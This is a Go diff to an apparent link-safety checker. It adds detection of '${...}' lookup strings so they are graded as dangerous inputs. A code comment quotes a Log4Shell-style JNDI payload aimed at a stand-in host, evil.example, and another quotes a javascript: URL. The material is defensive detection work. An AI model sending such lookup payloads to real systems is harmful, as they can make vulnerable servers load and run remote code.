@@ -40,7 +40,7 @@ func (r *request) readsLinks() bool { return r.pasted && r.NotText < 0 }
 
 // readings returns a request for each link in the input, up to a number of them, or for the input itself if
 // it has none. With a base, it is a reference unless it has several. It is also only the input itself if that
-// is a URL, and more dangerous than the links: javascript:f(1, 'https://good.example/').
+// is a URL or a lookup, and more dangerous than the links: javascript:f(1, 'https://good.example/').
 func (r *request) readings(isLine bool, most int) []request {
 	text := joinedDots.Replace(r.Text)
 	links, unread := linksIn(text)
@@ -72,11 +72,17 @@ func (r *request) readings(isLine bool, most int) []request {
 	}
 	if isWhole {
 		whole := *r
-		if whole.readAs(r.Text); weburl.CanParse(whole.Text) && whole.inspect().Grade == verdict.Dangerous {
+		if whole.readAs(r.Text); (weburl.CanParse(whole.Text) || isLookup(whole.Text)) && whole.inspect().Grade == verdict.Dangerous {
 			return []request{whole}
 		}
 	}
 	return list
+}
+
+// isLookup reports whether a text is one in braces, as of ${jndi:ldap://evil.example/}, and nothing else.
+func isLookup(text string) bool {
+	text = strings.TrimSpace(text)
+	return strings.HasPrefix(text, "${") && strings.HasSuffix(text, "}") && !strings.ContainsAny(text, " \n")
 }
 
 // joinedDots removes the spaces around dots that have been altered.
